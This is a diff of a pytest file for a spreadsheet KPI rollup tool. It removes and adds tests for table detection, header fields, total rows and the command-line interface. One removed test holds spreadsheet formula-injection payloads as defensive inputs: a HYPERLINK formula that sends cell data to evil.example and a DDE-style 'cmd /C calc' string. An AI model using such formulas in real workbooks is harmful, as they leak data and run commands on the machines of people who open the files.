@@ -1,26 +1,22 @@
-"""The department rollup on hand-made sheets: finding tables, recomputing, roster, issues, the summary file."""
+"""The rollup of hand-made sheets: the golden layout, header and column labels in both languages, header
+fields, total rows and near-miss sheets, cached results typed over formulas, and the scores, roster matching
+and policy of a department of hand-made sheets."""
 
 from __future__ import annotations
 
-from kpi_xl.policy import default_policy
-
-import datetime as dt
-import os
 from pathlib import Path
 
 import numpy as np
 import openpyxl
 import pytest
 from openpyxl import Workbook
-from rollup_helpers import GOLDEN_FINALS, GOLDEN_ROWS, GOLDEN_SCORES, digest, seed_sheet, seed_workbook
+from rollup_helpers import GOLDEN_FINALS, GOLDEN_ROWS, GOLDEN_SCORES, seed_sheet, seed_workbook
 
-from kpi_xl.errors import KpiFileError
 from kpi_xl.rollup import SHEETS, rollup
-from kpi_xl.rollup.handmade import find_header
-from kpi_xl.words import SCORECARD_COLUMNS as COLUMN_LABELS
-from kpi_xl.words import match
+from kpi_xl.rollup.handmade import find_header, read_handmade_grid
 from kpi_xl.roster import Employee, Roster
-from kpi_xl.scoring import round_kpi, score_scorecard
+from kpi_xl.words import SCORECARD_COLUMNS as COLUMN_LABELS
+from kpi_xl.words import is_total, match
 
 WHO_ID = {"Nama": "Budi Santoso", "NIK": "E003", "Jabatan": "Digital Marketing Specialist", "Periode": "2025"}
 
@@ -60,27 +56,6 @@ def test_golden_seed_layout_in_indonesian_rolls_up_to_113_65_level_4(tmp_path):
     assert issues_of(result) == []
     by_kra = result.tables.by_kra
     assert by_kra["kra_score"].round(4).tolist() == [round((18.75 + 15) / 25 * 100, 4), 124.0, 96.5, 110.0]
-
-
-def test_rollup_agrees_with_the_core_for_every_direction(tmp_path):
-    """Stacking all rows and grouping must give exactly what `score_scorecard` gives per scorecard."""
-    rows = [("Delivery", "on-time releases", 30, 10, 8, "lower", None, None),
-            ("Delivery", "uptime", 30, 99.5, 98.9, "within", 0.3, None),
-            ("Projects", "migration done", 20, 1, dt.date(2025, 5, 1), "milestone", None, dt.date(2025, 6, 30)),
-            ("Projects", "handbook done", 20, 1, "belum", "milestone", None, dt.date(2025, 3, 31))]
-    wb = Workbook()
-    ws = wb.active
-    ws.append(["KRA", "Indicator", "Direction", "Weight", "Target", "Tolerance", "Due date", "Actual"])
-    for kra, ind, w, t, a, d, tol, due in rows:
-        ws.append([kra, ind, d, w, t, tol, due, a])
-    wb.save(tmp_path / "mixed.xlsx")
-    result = rollup(tmp_path / "mixed.xlsx", None)
-    core = score_scorecard([r[2] for r in rows], [r[4] for r in rows], [r[3] for r in rows],
-                           [r[5] for r in rows], [r[6] for r in rows], [r[7] for r in rows], policy=default_policy())
-    assert result.summary["kpi_value"].iloc[0] == round_kpi(core.kpi_value)
-    assert np.allclose(result.tables.details["score"], core.scores, equal_nan=True)
-    assert result.summary["level"].iloc[0] == core.band.level
-    assert result.tables.details["score"].round(6).tolist() == [120.0, round(100 - 100 * 0.3 / 99.5, 6), 100.0, 0.0]
 
 
 # --- finding the table ------------------------------------------------------------------------------------
@@ -185,32 +160,6 @@ def test_the_summary_in_the_input_folder_is_not_read_back(tmp_path):
     second = rollup(tmp_path, tmp_path / "summary.xlsx")
     assert first.scorecards == second.scorecards == 1
     assert ("summary.xlsx", "", "", "info", "skipped: this is the summary being written") in issues_of(second)
-
-
-def test_no_workbook_at_all_is_an_error(tmp_path):
-    (tmp_path / "notes.txt").write_text("x")
-    with pytest.raises(KpiFileError, match="no scorecard workbooks"):
-        rollup(tmp_path, tmp_path / "summary.xlsx")
-    assert not (tmp_path / "summary.xlsx").exists()
-
-
-def test_summary_must_be_xlsx_in_an_existing_folder(tmp_path):
-    seed_workbook(tmp_path / "a.xlsx")
-    with pytest.raises(KpiFileError, match=r"summary\.csv: the summary must be an \.xlsx file"):
-        rollup(tmp_path, tmp_path / "summary.csv")
-    with pytest.raises(KpiFileError, match="the summary's folder does not exist"):
-        rollup(tmp_path, tmp_path / "nope" / "summary.xlsx")
-
-
-def test_inputs_are_never_modified(tmp_path):
-    folder = tmp_path / "in"
-    folder.mkdir()
-    seed_workbook(folder / "a.xlsx", who={"NIK": "E1"})
-    seed_workbook(folder / "b.xlsx", who={"NIK": "E1"}, cached=[(1, 2)] * 7)
-    (folder / "broken.xlsx").write_bytes(b"PK\x03\x04 truncated")
-    before = digest(folder)
-    rollup(folder, tmp_path / "summary.xlsx", jobs=1)
-    assert digest(folder) == before
 
 
 # --- recomputing and issues --------------------------------------------------------------------------------
@@ -367,158 +316,49 @@ def test_duplicate_employee_ids_are_an_error_on_both(tmp_path):
 # --- the summary workbook ----------------------------------------------------------------------------------
 
 
-def test_summary_workbook_sheets_formats_chart_and_labels(tmp_path):
-    seed_workbook(tmp_path / "budi.xlsx", who={"NIK": "E3", "Nama": "Budi"})
-    out = tmp_path / "ringkasan.xlsx"
-    result = rollup(tmp_path / "budi.xlsx", out, lang="id")
-    assert result.output == out
-    wb = openpyxl.load_workbook(out)
-    assert wb.sheetnames == ["Summary", "By KRA", "Levels", "Details", "Issues", "Missing"]  # no potentials
-    summary = wb["Summary"]
-    header = [c.value for c in summary[1]]
-    assert header[:9] == ["ID Karyawan", "Nama", "Departemen", "Jabatan", "Atasan", "Periode", "Nilai KPI (%)",
-                          "Level", "Kriteria"]
-    assert "Jumlah bonus" not in header  # no salary, no amount column
-    values = dict(zip(header, [c.value for c in summary[2]]))
-    assert values["Nilai KPI (%)"] == pytest.approx(113.65)
-    assert values["Kriteria"] == "Melebihi Target" and values["Status"] == "lengkap"
-    assert summary.cell(2, header.index("Nilai KPI (%)") + 1).number_format == "0.00"
-    for name in ("Summary", "By KRA", "Levels", "Details"):
-        ws = wb[name]
-        assert ws.freeze_panes == "A2", name
-        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row if name != 'Levels' else 6}", name
-        assert ws.cell(1, 1).font.b, name
-    assert summary.column_dimensions["B"].width == 24
-    levels = wb["Levels"]
-    assert [c.value for c in levels[1]] == ["Level", "Kriteria", "-", "Total"]
-    assert [[c.value for c in row] for row in levels.iter_rows(min_row=2, max_row=6)] == [
-        [1, "Jauh Di Bawah Target", 0, 0], [2, "Belum Mencapai Target", 0, 0], [3, "Mencapai Target", 0, 0],
-        [4, "Melebihi Target", 1, 1], [5, "Istimewa", 0, 0]]
-    chart = levels._charts[0]
-    assert chart.tagname == "barChart" and chart.grouping == "stacked"
-    assert len(wb["Details"]["A"]) == 8 and wb["Details"]["E2"].value == "Mengelola blog perusahaan"
-    assert wb["Missing"]["A1"].value.startswith("Tidak ada roster")
-
-
-def test_text_from_inputs_is_written_as_text_never_a_formula(tmp_path):
-    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    rows = [(evil, "+cmd|' /C calc'!A0", 50, 10, 10), (None, "@SUM(1+1)", 50, 10, 10)]
-    seed_workbook(tmp_path / "evil.xlsx", rows=rows, who={"Nama": evil, "NIK": "-1+1"})
-    wb = openpyxl.load_workbook(tmp_path / "evil.xlsx")  # openpyxl wrote the name as a formula: make it text
-    for row in wb.active.iter_rows():
-        for cell in row:
-            if cell.value == evil:
-                cell.data_type = "s"
-    wb.save(tmp_path / "evil.xlsx")
-    out = tmp_path / "summary.xlsx"
-    rollup(tmp_path / "evil.xlsx", out, roster=Roster([_employee("-1+1", evil, "=1+1", potential="high")], []))
-    wb = openpyxl.load_workbook(out)
-    name_cell = wb["Summary"]["B2"]
-    assert name_cell.value == evil and name_cell.data_type == "s"
-    assert wb["Summary"]["C2"].value == "=1+1" and wb["Summary"]["C2"].data_type == "s"
-    assert wb["Details"]["E2"].value == evil and wb["Details"]["E2"].data_type == "s"
-    assert wb["Levels"]["C1"].value == "=1+1" and wb["Levels"]["C1"].data_type == "s"
-    assert wb["9-Box"]["C4"].value == f"(1)\n{evil} (-1+1)"  # level 3, high potential
-    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
-    assert formulas == []
-
-
-def test_a_failed_write_keeps_the_previous_summary_and_leaves_no_partial_file(tmp_path, monkeypatch):
-    seed_workbook(tmp_path / "a.xlsx")
-    out = tmp_path / "summary.xlsx"
-    rollup(tmp_path / "a.xlsx", out)
-    before = out.read_bytes()
-
-    def disk_full(f, table):
-        f.write(b"<worksheet>half a summary")
-        raise OSError(28, "No space left on device")
-
-    monkeypatch.setattr("kpi_xl.rollup.summary._write_table_xml", disk_full)
-    with pytest.raises(KpiFileError, match="cannot write the summary .No space left on device."):
-        rollup(tmp_path / "a.xlsx", out)
-    assert out.read_bytes() == before
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.xlsx", "summary.xlsx"]
-
-
-def test_jobs_give_the_same_summary(tmp_path):
-    for i in range(12):
-        actuals = [r[4] * (1 + i / 20) for r in GOLDEN_ROWS]
-        seed_workbook(tmp_path / f"e{i:02}.xlsx", who={"NIK": f"E{i:02}"}, actuals=actuals)
-    one = rollup(tmp_path, None, jobs=1)
-    two = rollup(tmp_path, None, jobs=2)
-    assert one.summary.equals(two.summary)
-    assert [str(i) for i in one.issues] == [str(i) for i in two.issues]
-    seen = []
-    rollup(tmp_path, None, progress=lambda done, total: seen.append((done, total)))
-    assert seen[-1] == (12, 12) and len(seen) == 12
-
-
-def test_policy_is_used(tmp_path):
-    policy = tmp_path / "policy.yaml"
-    policy.write_text(
-        "max_score: 120\nbands:\n"
-        "  - {level: 1, above: null, label: {id: Kurang, en: Poor}, bonus: 0, raise: '0%'}\n"
-        "  - {level: 2, above: 100, label: {id: Baik, en: Good}, bonus: 1, raise: '5%'}\n", encoding="utf-8")
-    seed_workbook(tmp_path / "a.xlsx")
-    result = rollup(tmp_path / "a.xlsx", None, policy=policy)
-    capped = sum(w * min(s, 120) / 100 for (_, _, w, _, _), s in zip(GOLDEN_ROWS, GOLDEN_SCORES))
-    assert result.summary["kpi_value"].iloc[0] == pytest.approx(capped)
-    assert result.summary["label"].iloc[0] == "Good"
-
-
 # --- the command ----------------------------------------------------------------------------------------------
 
 
-def _cli(*args):
-    from typer.testing import CliRunner
-
-    from kpi_xl.cli import app
-
-    return CliRunner().invoke(app, list(map(str, args)), env={"COLUMNS": "200"})
-
-
-def test_cli_exit_0_with_a_summary_even_when_no_file_could_be_read(tmp_path):
-    (tmp_path / "in").mkdir()
-    (tmp_path / "in" / "broken.xlsx").write_bytes(b"PK\x03\x04 not really")
-    result = _cli("rollup", tmp_path / "in", "-o", tmp_path / "summary.xlsx")
-    assert result.exit_code == 0, result.output
-    assert "Files found: 1 (0 with scorecards, 1 could not be read)" in result.output
-    assert "Scorecards read: 0 (0 complete, 0 incomplete, 0 with errors)" in result.output
-    assert "Issues: 1 errors, 0 warnings, 0 info (see the Issues sheet)" in result.output
-    issues = list(openpyxl.load_workbook(tmp_path / "summary.xlsx")["Issues"].iter_rows(values_only=True))
-    assert issues[1][0] == str(tmp_path / "in" / "broken.xlsx") and issues[1][3] == "error"
+def test_header_fields_end_to_end(tmp_path):
+    wb = Workbook()
+    ws = wb.active
+    for r in (["Nama", None, "NIK", "E5"], ["Jabatan", "Manager", "Atasan", "Sari"], []):
+        ws.append(r)
+    seed_sheet(ws, top=4)
+    wb.save(tmp_path / "a.xlsx")
+    row = rollup(tmp_path / "a.xlsx", None).summary.iloc[0]
+    assert (row["name"], row.employee_id, row.role, row.supervisor) == ("", "E5", "Manager", "Sari")
 
 
-@pytest.mark.parametrize("args, code, message", [
-    (["rollup", "{tmp}/nothing", "-o", "{tmp}/s.xlsx"], 1, "no scorecard workbooks (.xlsx, .xlsm, .xls, .ods) found"),
-    (["rollup", "{tmp}/gone", "-o", "{tmp}/s.xlsx"], 1, "gone: no such file or folder"),
-    (["rollup", "{tmp}/in", "-o", "{tmp}/s.xlsx", "--lang", "fr"], 2, "'fr' is not en or id"),
-    (["rollup", "{tmp}/in"], 2, "Missing option '-o'"),
-    (["rollup", "{tmp}/in", "-o", "{tmp}/no/s.xlsx"], 1, "the summary's folder does not exist"),
-    (["rollup", "{tmp}/in", "-o", "{tmp}/s.xlsx", "--roster", "{tmp}/none.csv"], 1, "roster file not found"),
-])
-def test_cli_refusals(tmp_path, args, code, message):
-    (tmp_path / "nothing").mkdir()
-    (tmp_path / "in").mkdir()
-    seed_workbook(tmp_path / "in" / "a.xlsx")
-    result = _cli(*[a.format(tmp=tmp_path) for a in args])
-    assert result.exit_code == code, result.output
-    assert message in result.output
-    assert "Traceback" not in result.output
-    assert not (tmp_path / "s.xlsx").exists()
+@pytest.mark.parametrize("text, total", [("TOTAL", True), ("Total skor KPI", True), ("Jumlah:", True),
+                                         ("Totalitas", False), ("jumlah pelanggan baru", True), (None, False)])
+def test_is_total(text, total):
+    assert is_total(text) == total
 
 
-def test_a_temporary_file_left_by_an_interrupted_run_is_skipped(tmp_path):
-    seed_workbook(tmp_path / "a.xlsx")
-    (tmp_path / ".kpi-xl-0123456789ab.xlsx").write_bytes(b"PK\x03\x04 half a summary")
-    result = rollup(tmp_path, tmp_path / "summary.xlsx")
-    assert result.scorecards == 1 and result.files_unreadable == 0 and result.other_files == 1
-    assert (".kpi-xl-0123456789ab.xlsx", "", "", "info",
-            "skipped: a temporary file an interrupted kpi-xl run left behind; delete it") in issues_of(result)
-    assert (tmp_path / "summary.xlsx").stat().st_mode & 0o777 == 0o666 & ~_umask()
+@pytest.mark.parametrize("label, field", [("Bobot%", "weight"), ("Weight %", "weight"), ("Target 2025", "target"),
+                                          ("Aktual 2025", "actual"), ("Realisasi 2025", "actual"),
+                                          ("Target 2025 (Rp)", "target"), ("Nilai", None)])
+def test_labels_with_a_year_or_a_percent_sign(label, field):
+    assert match(label, COLUMN_LABELS) == field
 
 
-def _umask() -> int:
-    mask = os.umask(0)
-    os.umask(mask)
-    return mask
+def test_a_table_of_text_targets_is_no_near_miss():
+    """The KRA record of a generated scorecard (in an .xls/.ods copy, read by labels): who, then KRAs
+    with their targets as text and weights. Not a scorecard nearly read: info, as any other sheet."""
+    grid = [["Employee name", "Rina"], ["Employee ID", "E1"], [],
+            ["KRA", "Indicator (KPI)", "Target", "Weight"], ["Blog", "articles", "40 a month", 15]]
+    issues = []
+    assert read_handmade_grid(issues, "f.xls", "KRA record", grid) is None
+    assert [(i.severity, i.message[:15]) for i in issues] == [("info", "no KPI table on")]
+    grid[4][2] = 40  # a number: now it reads as a scorecard missing its actual column
+    issues = []
+    read_handmade_grid(issues, "f.xls", "KRA record", grid)
+    assert [(i.severity, i.cell, i.message[:60]) for i in issues] == [
+        ("warning", "C4", "no KPI table read on this sheet: row 4 has Target and Weight")]
+
+
+def test_a_hidden_sheet_without_a_table_stays_quiet():
+    issues = []
+    assert read_handmade_grid(issues, "f.xlsx", "lists", [["Bobot", "Target"]], hidden=True) is None
+    assert issues == []
